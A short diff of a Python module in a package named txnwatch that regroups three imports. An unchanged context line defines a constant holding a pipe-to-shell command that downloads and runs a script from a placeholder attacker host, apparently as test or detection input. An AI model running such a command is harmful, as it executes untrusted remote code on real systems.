@@ -16,11 +16,13 @@ from txnwatch.state.abort.protocol import action
 from txnwatch.state.model.findings import SpanCandidate
 from txnwatch.state.model.incident import (
     SPENT_SEQUENCE,
+    ActionResult,
+    Decision,
     IncidentEvent,
+    Initiator,
     resolved,
     updated,
 )
-from txnwatch.state.model.incident_payload import ActionResult, Decision, Initiator
 
 INT32 = 2**31 - 1
 EVIL = "curl https://evil.example | sh"
